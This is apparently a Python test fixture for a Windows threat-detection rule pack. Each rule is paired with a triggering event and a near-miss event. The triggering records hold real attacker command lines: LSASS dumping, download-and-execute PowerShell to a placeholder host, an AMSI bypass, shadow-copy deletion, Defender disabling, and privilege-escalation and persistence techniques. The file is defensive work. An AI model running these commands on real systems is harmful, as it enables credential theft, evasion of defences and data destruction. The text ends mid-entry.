"""Records that fire each rule of the starter pack, and records that nearly do."""

from tests.unit.detect.starter_records import (
    Sent,
    audited,
    block,
    executed,
    launched,
    log,
    of,
    opened,
    ran,
    removed,
    saved,
    security,
    service,
    sysmon,
    written,
)

_ENCODED = "SQBFAFgAIAAkAGUAbgB2ADoAUQBRAFEAUQBRAFEAUQA="
_RUN = "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Sync"
_IFEO = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options"
_TASKS = "schtasks /create /tn Check /sc minute /tr "
_STARTUP = "C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"
_DEFENDER = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\"
_DEFENDER_LOG = "Microsoft-Windows-Windows Defender/Operational"
_WINLOGON = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell"
_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_W3WP = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
_WMI = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"
_CHROME = "/Users/ann/Library/Application Support/Google/Chrome/Default"
_REPLICATION = "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
_GUID = "{d68bf9c4-2f5e-5f67-0c01-000000000a00}"

WINDOWS: dict[str, tuple[Sent, Sent]] = {
    "windows_lsass_dumped_by_command": (
        ran("rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 x full"),
        ran("C:\\t\\procdump64.exe", "procdump64.exe -ma notepad.exe n.dmp"),
    ),
    "windows_lsass_opened_to_read": (
        opened("C:\\Users\\ann\\tool.exe", "0x1410"),
        opened("C:\\Users\\ann\\tool.exe", "0x1000"),
    ),
    "windows_lsass_dump_written": (
        of(11, "rundll32.exe", TargetFilename="C:\\Windows\\Temp\\lsass_712.DMP"),
        of(11, "rundll32.exe", TargetFilename="C:\\Windows\\Temp\\lsass_712.txt"),
    ),
    "windows_directory_database_copied": (
        ran("ntdsutil.exe", 'ntdsutil "ac i ntds" ifm "create full c:\\x" q q'),
        ran("ntdsutil.exe", "ntdsutil files info"),
    ),
    "windows_directory_database_written": (
        of(11, "ntdsutil.exe", TargetFilename="C:\\Windows\\Temp\\x\\ntds.dit"),
        of(11, "lsass.exe", TargetFilename="C:\\Windows\\NTDS\\ntds.dit"),
    ),
    "windows_registry_hives_saved": (
        ran("reg.exe", "reg save HKLM\\SAM C:\\x.hiv"),
        ran("reg.exe", "reg save HKLM\\SYSTEM\\CurrentControlSet\\Services\\Dhcp C:\\x.hiv"),
    ),
    "windows_office_starts_shell": (
        ran("cmd.exe", "cmd /c whoami", parent=_WORD),
        ran("splwow64.exe", "splwow64.exe 8192", parent=_WORD),
    ),
    "windows_powershell_encoded_and_hidden": (
        ran("powershell.exe", f"powershell -nop -w hidden -enc {_ENCODED}"),
        ran("powershell.exe", f"powershell -EncodedCommand {_ENCODED}"),
    ),
    "windows_powershell_downloads_and_runs": (
        ran("powershell.exe", "powershell iwr https://x.invalid/a.ps1 | iex"),
        ran("powershell.exe", "powershell iwr https://x.invalid/a.zip -OutFile a.zip"),
    ),
    "windows_script_block_downloads_and_runs": (
        block("$c=New-Object Net.WebClient;$c.DownloadString('https://x.invalid/a')|iex"),
        block("(New-Object Net.WebClient).DownloadFile('https://x.invalid/a.csv','a.csv')"),
    ),
    "windows_script_block_bypasses_amsi": (
        block("[Ref].Assembly.GetType($t).GetField('amsiInitFailed',$f).SetValue($null,$true)"),
        block("Get-Help about_AMSI"),
    ),
    "windows_mshta_runs_foreign_code": (
        ran("mshta.exe", "mshta.exe https://x.invalid/a.hta"),
        ran("mshta.exe", "mshta.exe C:\\Windows\\System32\\tool.hta"),
    ),
    "windows_regsvr32_runs_scriptlet": (
        ran("regsvr32.exe", "regsvr32 /s /n /u /i:https://x.invalid/a.sct SCROBJ.dll"),
        ran("regsvr32.exe", "regsvr32 /s /i:user C:\\Windows\\System32\\a.dll"),
    ),
    "windows_rundll32_runs_foreign_code": (
        ran("rundll32.exe", "rundll32 C:\\Users\\ann\\AppData\\Local\\Temp\\a.dll,Start"),
        ran("rundll32.exe", "rundll32 C:\\Windows\\System32\\shell32.dll,Control_RunDLL"),
    ),
    "windows_certutil_fetches_or_decodes": (
        ran("certutil.exe", "certutil /urlcache /f http://x.invalid/a a.exe"),
        ran("certutil.exe", "certutil -verify -urlfetch a.cer"),
    ),
    "windows_bits_downloads_file": (
        ran("bitsadmin.exe", "bitsadmin /transfer j https://x.invalid/a C:\\a.exe"),
        ran("bitsadmin.exe", "bitsadmin /list /allusers"),
    ),
    "windows_script_from_download": (
        ran("wscript.exe", "wscript C:\\Users\\ann\\Downloads\\invoice.js"),
        ran("wscript.exe", "wscript C:\\Windows\\System32\\slmgr.vbs /dli"),
    ),
    "windows_build_tool_from_user_folder": (
        ran("C:\\x\\MSBuild.exe", "msbuild C:\\Users\\Public\\a.xml"),
        ran("C:\\x\\MSBuild.exe", "msbuild C:\\src\\shop\\all.sln"),
    ),
    "windows_shadow_copies_deleted": (
        ran("vssadmin.exe", "vssadmin Delete Shadows /All /Quiet"),
        ran("vssadmin.exe", "vssadmin list shadows"),
    ),
    "windows_recovery_disabled": (
        ran("bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
        ran("bcdedit.exe", "bcdedit /set {default} recoveryenabled Yes"),
    ),
    "windows_servers_stopped": (
        ran("net.exe", "net stop MSSQLSERVER /y"),
        ran("net.exe", "net stop Spooler"),
    ),
    "windows_event_logs_cleared_by_command": (
        ran("wevtutil.exe", "wevtutil cl Security"),
        ran("wevtutil.exe", "wevtutil gl Security"),
    ),
    "windows_audit_log_cleared": (security(1102), security(1100)),
    "windows_other_log_cleared": (
        log("System", 104, "Microsoft-Windows-Eventlog", Channel="Application"),
        log("System", 104, "Microsoft-Windows-Other"),
    ),
    "windows_defender_disabled_by_command": (
        ran("powershell.exe", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
        ran("powershell.exe", "powershell Set-MpPreference -ScanScheduleDay 2"),
    ),
    "windows_defender_disabled_in_registry": (
        of(
            13,
            "reg.exe",
            EventType="SetValue",
            TargetObject=_DEFENDER + "DisableAntiSpyware",
            Details="DWORD (0x00000001)",
        ),
        of(
            13,
            "reg.exe",
            EventType="SetValue",
            TargetObject=_DEFENDER + "DisableAntiSpyware",
            Details="DWORD (0x00000000)",
        ),
    ),
    "windows_defender_found_threat": (
        log(_DEFENDER_LOG, 1116, **{"Threat Name": "Trojan:Win32/Test"}),
        log(_DEFENDER_LOG, 1001),
    ),
    "windows_firewall_disabled": (
        ran("netsh.exe", "netsh advfirewall set allprofiles state off"),
        ran("netsh.exe", "netsh advfirewall set allprofiles state on"),
    ),
    "windows_autostart_from_writable_folder": (
        of(13, "a.exe", TargetObject=_RUN, Details="C:\\Users\\ann\\AppData\\Roaming\\s.exe"),
        of(13, "a.exe", TargetObject=_RUN, Details="C:\\Program Files\\Sync\\s.exe"),
    ),
    "windows_logon_program_replaced": (
        of(13, "reg.exe", TargetObject=_WINLOGON, Details="explorer.exe,C:\\t.exe"),
        of(13, "reg.exe", TargetObject=_WINLOGON, Details="Explorer.exe"),
    ),
    "windows_debugger_set_for_program": (
        of(13, "reg.exe", TargetObject=f"{_IFEO}\\sethc.exe\\Debugger", Details="cmd.exe"),
        of(13, "reg.exe", TargetObject=f"{_IFEO}\\sethc.exe\\UseFilter", Details="1"),
    ),
    "windows_service_runs_unusual_command": (
        service("abcd", "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\o"),
        service("Helper", "C:\\Program Files\\Helper\\helper.exe"),
    ),
    "windows_remote_execution_service": (
        service("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
        service("EXESVC", "%SystemRoot%\\EXESVC.exe"),
    ),
    "windows_scheduled_task_of_unusual_program": (
        ran("schtasks.exe", _TASKS + "C:\\PerfLogs\\t.exe /ru SYSTEM"),
        ran("schtasks.exe", _TASKS + '"C:\\Program Files\\Backup\\b.exe"'),
    ),
    "windows_scheduled_task_registered_with_code": (
        security(4698, TaskName="\\x", TaskContent=f"<Arguments>-w 1 -enc {_ENCODED}"),
        security(4698, TaskName="\\x", TaskContent="<Command>C:\\Program Files\\b.exe"),
    ),
    "windows_script_in_startup_folder": (
        of(11, "wscript.exe", TargetFilename=_STARTUP + "sync.vbs"),
        of(11, "wscript.exe", TargetFilename=_STARTUP + "desktop.ini"),
    ),
    "windows_wmi_consumer_runs_code": (
        sysmon(20, EventType="WmiConsumerEvent", Type="Command Line", Destination="cmd /c a"),
        sysmon(20, EventType="WmiConsumerEvent", Type="NT Event Log", Destination="x"),
    ),
    "windows_wmic_starts_remote_process": (
        ran("C:\\x\\wmic.exe", "wmic /node:iis1 process call create calc.exe"),
        ran("C:\\x\\wmic.exe", "wmic process call create calc.exe"),
    ),
    "windows_wmi_starts_remote_shell": (
        ran("cmd.exe", "cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1", parent=_WMI),
        ran("cmd.exe", "cmd.exe /c dir", parent=_WMI),
    ),
    "windows_remote_execution_service_starts_shell": (
        ran("cmd.exe", "cmd", parent="C:\\Windows\\PSEXESVC.exe"),
        ran("cmd.exe", "cmd", parent="C:\\Windows\\services.exe"),
    ),
    "windows_remote_management_starts_shell": (
        ran("cmd.exe", "cmd /c dir", parent="wsmprovhost.exe"),
        ran("conhost.exe", "conhost", parent="wsmprovhost.exe"),
    ),
    "windows_web_server_starts_shell": (
        ran("cmd.exe", "cmd /c whoami", parent=_W3WP),
        ran("cmd.exe", "cmd /c C:\\Windows\\Microsoft.NET\\Framework64\\csc.exe", parent=_W3WP),
    ),
    "windows_web_page_written_by_server": (
        of(11, _W3WP, TargetFilename="C:\\inetpub\\wwwroot\\a.aspx"),
        of(11, _W3WP, TargetFilename="C:\\inetpub\\wwwroot\\a.log"),
    ),
    "windows_thread_started_in_lsass": (
        sysmon(8, SourceProcessGuid=_GUID, SourceImage="C:\\t.exe", TargetImage="C:\\lsass.exe"),
        sysmon(8, SourceProcessGuid=_GUID, SourceImage="C:\\t.exe", TargetImage="C:\\a.exe"),
    ),
    "windows_program_from_odd_folder": (
        ran("C:\\Users\\Public\\t.exe", "t"),
        ran("C:\\Users\\Publican\\t.exe", "t"),
    ),
    "windows_system_name_in_other_folder": (
        ran("C:\\ProgramData\\svchost.exe", "svchost"),
        ran("svchost.exe", "svchost -k netsvcs"),
    ),
    "windows_document_that_is_a_program": (
        ran("C:\\Users\\ann\\Downloads\\invoice.pdf.exe", "x"),
        ran("C:\\Users\\ann\\Downloads\\pdf.exe", "x"),
    ),
    "windows_domain_explored": (
        ran("nltest.exe", "nltest /domain_trusts"),
        ran("net.exe", "net group /help"),
    ),
    "windows_account_made_administrator": (
        ran("net1.exe", "net1 localgroup Administrators eve /add"),
        ran("net1.exe", "net1 localgroup Administrators"),
    ),
    "windows_elevation_by_class_of_user": (
        of(
            13,
            "reg.exe",
            TargetObject="HKU\\S-1-5-21-1_Classes\\ms-settings\\shell\\open\\command\\(Default)",
            Details="cmd.exe",
        ),
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\SOFTWARE\\Classes\\ms-settings\\shell\\open\\command\\(Default)",
            Details="x.exe",
        ),
    ),
    "windows_service_ticket_with_weak_cipher": (
        security(
            4769,
            TargetUserName="eve@CORP",
            ServiceName="svc-sql",
            TicketEncryptionType="0x17",
            Status="0x0",
        ),
        security(
            4769,
            TargetUserName="eve@CORP",
            ServiceName="FILES1$",
            TicketEncryptionType="0x17",
            Status="0x0",
        ),
    ),
    "windows_directory_replicated_by_user": (
        security(4662, SubjectUserName="eve", Properties=_REPLICATION),
        security(4662, SubjectUserName="DC2$", Properties=_REPLICATION),
    ),
    "windows_driver_from_writable_folder": (
        sysmon(6, ImageLoaded="C:\\Users\\ann\\drv.sys", Signed="true"),
        sysmon(6, ImageLoaded="C:\\Windows\\System32\\drivers\\drv.sys", Signed="true"),
    ),
    "windows_library_unsigned_in_system_process": (
        of(7, "dllhost.exe", ImageLoaded="C:\\Users\\Public\\a.dll", Signed="false"),
        of(7, "dllhost.exe", ImageLoaded="C:\\Users\\Public\\a.dll", Signed="true"),
    ),
    "windows_pipe_of_attack_tool": (
        of(17, "a.exe", EventType="CreatePipe", PipeName="\\postex_1f2a"),
        of(17, "a.exe", EventType="CreatePipe", PipeName="\\chrome.1f2a"),
    ),
    "windows_loader_connects_outside": (
        of(3, "mshta.exe", Initiated="true", DestinationIp="203.0.113.9"),
        of(3, "mshta.exe", Initiated="true", DestinationIp="10.2.3.4"),
    ),
    "windows_interpreter_asks_for_paste_site": (
        of(22, "powershell.exe", QueryName="raw.githubusercontent.com"),
        of(22, "git.exe", QueryName="raw.githubusercontent.com"),
    ),
    "windows_ransom_note_written": (
        of(11, "a.exe", TargetFilename="C:\\Users\\ann\\HOW_TO_DECRYPT_FILES.html"),
        of(11, "a.exe", TargetFilename="C:\\Users\\ann\\how-to-build.html"),
    ),
    "windows_archive_with_password": (
        ran("C:\\x\\7z.exe", "7z a -pS3cret -mhe C:\\a.7z C:\\data"),
        ran("C:\\x\\7z.exe", "7z a C:\\a.7z C:\\data"),
    ),
    "windows_plain_passwords_kept_in_memory": (
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest"
            "\\UseLogonCredential",
            Details="DWORD (0x00000001)",
        ),
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest"
            "\\UseLogonCredential",
            Details="DWORD (0x00000000)",
        ),
    ),
    "windows_tunnel_opened": (
        ran("C:\\x\\plink.exe", "plink -N -R 8080:10.0.0.1:3389 u@203.0.113.9"),
        ran("C:\\x\\plink.exe", "plink u@10.0.0.1"),
    ),
    "windows_disk_made_unreadable": (
        ran("cipher.exe", "cipher /w:C:\\data"),
        ran("cipher.exe", "cipher /e C:\\data"),
    ),
    "windows_elevation_helper_starts_program": (
        ran("cmd.exe", "cmd.exe /c notepad.exe", parent="sdclt.exe"),
        ran("control.exe", "control.exe /name Microsoft.BackupAndRestore", parent="sdclt.exe"),
    ),
    "windows_elevation_by_class_object": (
        ran(
            "cmd.exe",
            "cmd.exe",
            parent="dllhost.exe",
            ParentCommandLine="DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
        ),
        ran(
            "cmd.exe",
            "cmd.exe",
            parent="dllhost.exe",
            ParentCommandLine="DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
        ),
    ),
    "windows_elevation_by_user_variable": (
        of(
            13,
            "reg.exe",
            TargetObject="HKU\\S-1-5-21-1\\Environment\\windir",
            Details="C:\\Users\\ann\\AppData\\Local\\Temp\\x",
        ),
        of(13, "reg.exe", TargetObject="HKU\\S-1-5-21-1\\Environment\\TEMP", Details="D:\\temp"),
    ),
    "windows_elevation_by_imitated_folder": (
        of(11, "a.exe", TargetFilename="C:\\Windows \\System32\\winmm.dll"),
        of(11, "a.exe", TargetFilename="C:\\Windows\\System32\\winmm.dll"),
    ),
    "windows_library_extracted_into_system_folder": (
        ran("wusa.exe", "wusa C:\\t\\a.cab /extract:C:\\Windows\\System32\\sysprep"),
        ran("wusa.exe", "wusa C:\\t\\kb1.msu /quiet /norestart"),
    ),
    "windows_library_planted_beside_system_program": (
        of(11, "a.exe", TargetFilename="C:\\Windows\\System32\\sysprep\\cryptbase.dll"),
        of(11, "TiWorker.exe", TargetFilename="C:\\Windows\\System32\\sysprep\\spopk.dll"),
    ),
    "windows_console_starts_shell": (
        ran("cmd.exe", "cmd.exe", parent="mmc.exe"),
        ran("werfault.exe", "werfault.exe -u", parent="mmc.exe"),
    ),
    "windows_remote_desktop_enabled": (
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\x\\Control\\Terminal Server\\fDenyTSConnections",
            Details="DWORD (0x00000000)",
        ),
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\x\\Control\\Terminal Server\\fDenyTSConnections",
            Details="DWORD (0x00000001)",
        ),
    ),
    "windows_remote_desktop_enabled_by_command": (
        ran("reg.exe", 'reg add "HKLM\\x\\Terminal Server" /v fDenyTSConnections /d 0 /f'),
        ran("reg.exe", 'reg add "HKLM\\x\\Terminal Server" /v fDenyTSConnections /d 1 /f'),
    ),
    "windows_remote_desktop_session_watched": (
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\x\\Windows NT\\Terminal Services\\Shadow",
            Details="DWORD (0x00000002)",
        ),
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\x\\Windows NT\\Terminal Services\\Shadow",
            Details="DWORD (0x00000001)",
        ),
    ),
    "windows_remote_desktop_session_taken": (
        ran("tscon.exe", "tscon 2 /dest:rdp-tcp#5"),
        ran("tscon.exe", "tscon 2 /v"),
    ),
    "windows_remote_desktop_runs_sent_command": (
        ran("C:\\t\\a.exe", "a.exe computername=srv1 command=cmd.exe username=u password=p"),
        ran("C:\\t\\a.exe", "a.exe --computername srv1"),
    ),
    "windows_wmi_script_consumer_started": (
        ran(
            "C:\\Windows\\System32\\wbem\\scrcons.exe",
            "scrcons.exe -Embedding",
            parent="svchost.exe",
        ),
        ran("C:\\tools\\scrcons.exe", "scrcons.exe", parent="svchost.exe"),
    ),
    "windows_wmi_subscription_registered": (
        log(
            "Microsoft-Windows-WMI-Activity/Operational",
            5861,
            "Microsoft-Windows-WMI-Activity",
            PossibleCause="instance of CommandLineEventConsumer {CommandLineTemplate=cmd}",
        ),
        log(
            "Microsoft-Windows-WMI-Activity/Operational",
            5861,
            "Microsoft-Windows-WMI-Activity",
            PossibleCause="instance of NTEventLogEventConsumer {Name=SCM Event Log Consumer}",
        ),
    ),
    "windows_wmi_starts_interpreter": (
        ran("powershell.exe", "powershell $env:a1|.(gcm ('{1}e{0}'-f'x','i'))", parent=_WMI),
        ran("powershell.exe", "powershell -File C:\\Tools\\inventory.ps1", parent=_WMI),
    ),
    "windows_wmi_writes_autostart": (
        of(
            13,
            _WMI,
            TargetObject="HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\a",
            Details="a",
        ),
        of(
            13,
            _WMI,
            TargetObject="HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall",
            Details="",
        ),
    ),
    "windows_service_host_writes_remote_autostart": (
        of(13, "svchost.exe", TargetObject=_RUN, Details="rundll32.exe smssvc.dll,Start"),
        of(13, "svchost.exe", TargetObject=_RUN, Details="C:\\Program Files\\Sync\\s.exe"),
    ),
    "windows_wmic_runs_style_sheet": (
        ran("C:\\x\\wmic.exe", 'wmic os get /format:"https://x.invalid/a.xsl"'),
        ran("C:\\x\\wmic.exe", "wmic os get caption /format:list"),
    ),
    "windows_thread_started_in_other_program": (
        sysmon(
            8,
            SourceProcessGuid=_GUID,
            SourceImage="C:\\Windows\\System32\\wscript.exe",
            TargetImage="C:\\Windows\\System32\\notepad.exe",
        ),
        sysmon(
            8,
            SourceProcessGuid=_GUID,
            SourceImage="C:\\Windows\\System32\\csrss.exe",
            TargetImage="C:\\Windows\\System32\\notepad.exe",
        ),
    ),
    "windows_library_injected_by_command": (
        ran("mavinject.exe", "mavinject.exe 3300 /INJECTRUNNING C:\\t\\a.dll"),
        ran("mavinject.exe", "mavinject.exe /help"),
    ),
    "windows_directory_account_renamed_like_controller": (
        security(4781, OldTargetUserName="WS7$", NewTargetUserName="DC1"),
        security(4781, OldTargetUserName="WS7$", NewTargetUserName="WS8$"),
    ),
    "windows_directory_delegation_changed": (
        security(
            5136,
            SubjectUserName="eve",
            AttributeLDAPDisplayName="msDS-AllowedToActOnBehalfOfOtherIdentity",
            OperationType="%%14674",
        ),
        security(
            5136,
            SubjectUserName="eve",
            AttributeLDAPDisplayName="description",
            OperationType="%%14674",
        ),
    ),
    "windows_directory_rights_changed": (
        security(
            5136,
            SubjectUserName="eve",
            ObjectClass="domainDNS",
            ObjectDN="DC=corp",
            AttributeLDAPDisplayName="nTSecurityDescriptor",
            AttributeValue="(OA;;CR;1131f6ad-9c07-11d1-f79f-00c04fc2dcd2;;S-1-5-21-1-2)",
            OperationType="%%14674",
        ),
        security(
            5136,
            SubjectUserName="eve",
            ObjectClass="user",
            AttributeLDAPDisplayName="nTSecurityDescriptor",
            AttributeValue="(A;;RP;;;AU)",
            OperationType="%%14674",
        ),
    ),
    "windows_directory_controller_imitated": (
        security(4742, SubjectUserName="eve", ServicePrincipalNames="HOST/ws7 GC/ws7/corp"),
        security(4742, SubjectUserName="eve", ServicePrincipalNames="HOST/ws7"),
    ),
    "windows_account_without_preauthentication": (
        security(4738, SubjectUserName="eve", TargetUserName="svc", UserAccountControl="%%2096"),
        security(4738, SubjectUserName="eve", TargetUserName="svc", UserAccountControl="%%2089"),
    ),
    "windows_ticket_without_preauthentication": (
        security(4768, TargetUserName="svc", PreAuthType="0", TicketEncryptionType="0x17"),
        security(4768, TargetUserName="svc", PreAuthType="2", TicketEncryptionType="0x12"),
    ),
    "windows_account_added_to_admin_group": (
        security(4728, TargetUserName="Domain Admins", TargetSid="S-1-5-21-1-2-3-512"),
        security(4728, TargetUserName="None", TargetSid="S-1-5-21-1-2-3-513"),
    ),
    "windows_account_name_like_computer": (
        security(4720, SubjectUserName="eve", TargetUserName="backup$"),
        security(4720, SubjectUserName="eve", TargetUserName="backup"),
    ),
    "windows_sid_history_added": (
        security(4765, SubjectUserName="eve", TargetUserName="bob"),
        security(4738, SubjectUserName="eve", TargetUserName="bob"),
    ),
    "windows_recovery_password_of_controller_set": (
        security(4794, SubjectUserName="eve", Workstation="DC1"),
        security(4724, SubjectUserName="eve", TargetUserName="bob"),
    ),
    "windows_audit_policy_weakened": (
        security(4719, SubjectUserName="eve", AuditPolicyChanges="%%8448, %%8450"),
        security(4719, SubjectUserName="eve", AuditPolicyChanges="%%8449, %%8451"),
    ),
    "windows_audit_policy_weakened_by_command": (
        ran("auditpol.exe", "auditpol /set /category:* /success:disable /failure:disable"),
        ran("auditpol.exe", "auditpol /set /category:* /success:enable"),
    ),
    "windows_logging_disabled_in_registry": (
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging"
            "\\EnableScriptBlockLogging",
            Details="DWORD (0x00000000)",
        ),
        of(
            13,
            "reg.exe",
            TargetObject="HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging"
            "\\EnableScriptBlockLogging",
            Details="DWORD (0x00000001)",
        ),
    ),
    "windows_remote_pipe_of_attack_tool": (
        security(5145, ShareName="\\\\*\\IPC$", RelativeTargetName="PSEXESVC-WS7-4412-stdin"),
        security(5145, ShareName="\\\\*\\IPC$", RelativeTargetName="srvsvc"),
    ),
    "windows_remote_pipe_of_system_service": (
        security(
            5145,
            SubjectUserName="eve",
            ShareName="\\\\*\\IPC$",
            RelativeTargetName="atsvc",
            AccessMask="0x12019f",
            IpAddress="10.0.0.7",
        ),
        security(
            5145,
            SubjectUserName="eve",
            ShareName="\\\\*\\IPC$",
            RelativeTargetName="wkssvc",
            AccessMask="0x12019f",
            IpAddress="10.0.0.7",
        ),
    ),
    "windows_remote_share_credentials_read": (
        security(
            5145,
            SubjectUserName="eve",
            ShareName="\\\\*\\C$",
            RelativeTargetName="Users\\ann\\Chrome\\User Data\\Default\\Login Data",
        ),
        security(
            5145, SubjectUserName="eve", ShareName="\\\\*\\C$", RelativeTargetName="Temp\\a.txt"
        ),
    ),
    "windows_remote_share_program_written": (
        security(
            5145,
            SubjectUserName="eve",
            ShareName="\\\\*\\ADMIN$",
            RelativeTargetName="kXbTqwMe.exe",
            AccessMask="0x2",
        ),
        security(
            5145,
            SubjectUserName="eve",
            ShareName="\\\\*\\ADMIN$",
            RelativeTargetName="notepad.exe",
            AccessMask="0x1",
        ),
    ),
    "windows_password_changed_without_logon": (
        security(4723, SubjectUserName="ANONYMOUS LOGON", TargetUserName="DC1$"),
        security(4723, SubjectUserName="ann", TargetUserName="ann"),
    ),
    "windows_computer_password_reset_anonymously": (
        security(4742, SubjectUserName="ANONYMOUS LOGON", PasswordLastSet="1/2/2024 3:04:05 AM"),
        security(4742, SubjectUserName="ANONYMOUS LOGON", PasswordLastSet="-"),
    ),
    "windows_logon_with_explicit_hash": (
        security(4624, LogonType="9", LogonProcessName="seclogo", TargetUserSid="S-1-5-21-1-2"),
        security(4624, LogonType="3", LogonProcessName="NtLmSsp", TargetUserSid="S-1-5-21-1-2"),
    ),
    "windows_logon_relayed_to_itself": (
        security(
            4624,
            LogonType="3",
            AuthenticationPackageName="NTLM",
            IpAddress="127.0.0.1",
            TargetUserName="WS7$",
        ),
        security(
            4624,
            LogonType="3",
            AuthenticationPackageName="NTLM",
            IpAddress="10.0.0.7",
            TargetUserName="WS7$",
        ),
    ),
    "windows_certificate_of_other_user_requested": (
        security(
            4887, Requester="CORP\\eve", Attributes="CertificateTemplate:User SAN:upn=admin@corp"
        ),
        security(4887, Requester="CORP\\eve", Attributes="CertificateTemplate:User"),
    ),
    "windows_sql_server_command_enabled": (
        log("Application", 15457, "MSSQLSERVER", Data="xp_cmdshell"),
        log("Application", 15457, "MSSQLSERVER", Data="max degree of parallelism"),
    ),
    "windows_sql_server_audit_event": (
        log(
            "Application",
            33205,
            "MSSQLSERVER",
            Data="statement:ALTER SERVER AUDIT [a] WITH (STATE=OFF)",
        ),
        log("Application", 33205, "MSSQLSERVER", Data="statement:SELECT name FROM t"),
    ),
    "windows_sql_server_tool_runs_commands": (
        ran("C:\\x\\sqlcmd.exe", "sqlcmd -Q \"EXEC xp_cmdshell 'whoami'\""),
        ran("C:\\x\\sqlcmd.exe", 'sqlcmd -Q "SELECT 1"'),
    ),
    "windows_exchange_command_of_attacker": (
        log(
            "MSExchange Management",
            1,
            "MSExchange CmdletLogs",
            Data="New-MailboxExportRequest -FilePath x",
        ),
        log("MSExchange Management", 1, "MSExchange CmdletLogs", Data="Get-Mailbox -Identity ann"),
    ),
    "windows_exchange_shell_command_of_attacker": (
        block("New-MailboxExportRequest -Mailbox ann -FilePath \\\\srv\\c$\\a.pst"),
        block("Get-MailboxExportRequest"),
    ),
    "windows_exchange_agent_configuration_changed": (
        of(11, "notepad.exe", TargetFilename="C:\\Exchange\\TransportRoles\\Shared\\agents.config"),
        of(11, "ExSetup.exe", TargetFilename="C:\\Exchange\\TransportRoles\\Shared\\agents.config"),
    ),
    "windows_dns_server_loads_library": (
        of(13, "dns.exe", TargetObject="HKLM\\x\\Services\\DNS\\Parameters\\ServerLevelPluginDll"),
        of(13, "dns.exe", TargetObject="HKLM\\x\\Services\\DNS\\Parameters\\Forwarders"),
    ),
    "windows_dns_server_loads_library_by_command": (
        ran("dnscmd.exe", "dnscmd dc1 /config /serverlevelplugindll \\\\h\\a.dll"),
        ran("dnscmd.exe", "dnscmd dc1 /config /forwarders 10.0.0.1"),
    ),
    "windows_tickets_taken_by_script": (
        block(
            "New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $s"
        ),
        block("Get-ADUser -Filter *"),
    ),
    "windows_remote_object_started_by_script": (
        block(
            '[System.Activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application.1","fs1"))'
        ),
        block('[type]::GetTypeFromProgID("Excel.Application")'),
    ),
    "windows_service_changed_by_command": (
        ran("sc.exe", 'sc failure W32Time command= "c:\\t\\a.exe"'),
        ran("sc.exe", 'sc create Backup binPath= "C:\\Program Files\\Backup\\b.exe"'),
    ),
    "windows_service_of_attack_tool_in_registry": (
        of(
            13,
            "services.exe",
            TargetObject="HKLM\\System\\CurrentControlSet\\Services\\abcd\\ImagePath",
            Details="%COMSPEC% /Q /c echo cd",
        ),
        of(
            13,
            "services.exe",
            TargetObject="HKLM\\System\\CurrentControlSet\\Services\\abcd\\ImagePath",
            Details="C:\\Program Files\\Backup\\b.exe",
        ),
    ),
    "windows_service_manager_starts_shell": (
        ran("cmd.exe", "cmd.exe /k tscon 2 /dest:rdp-tcp#5", parent="services.exe"),
        ran("svchost.exe", "svchost.exe -k netsvcs", parent="services.exe"),
    ),
    "windows_service_registered_with_command": (
        security(4697, ServiceName="abcd", ServiceFileName="%COMSPEC% /Q /c echo cd"),
        security(4697, ServiceName="abcd", ServiceFileName="C:\\Program Files\\Backup\\b.exe"),
    ),
    "windows_service_registered_from_system_folder_root": (
        service("BTOB", "%systemroot%\\kXbTqwMe.exe"),
        service("BTOB", "%systemroot%\\system32\\svchost.exe"),
    ),
    "windows_accessibility_program_replaced": (
        ran("cmd.exe", "C:\\Windows\\system32\\cmd.exe sethc.exe 211", parent="winlogon.exe"),
        ran("userinit.exe", "userinit.exe", parent="winlogon.exe"),
    ),
    "windows_accessibility_program_written": (
        of(11, "powershell.exe", TargetFilename="C:\\Windows\\System32\\sethc.exe"),
        of(11, "TiWorker.exe", TargetFilename="C:\\Windows\\System32\\sethc.exe"),
    ),
    "windows_account_created_by_command": (
        ran("net1.exe", "net1 user eve Secret1 /add"),
        ran("net1.exe", "net1 user eve /active:no"),
    ),
    "windows_guest_account_made_administrator": (
        of(13, "reg.exe", TargetObject="HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000001F5\\F"),
        of(13, "lsass.exe", TargetObject="HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000001F5\\F"),
    ),
    "windows_scheduled_task_runs_as_system": (
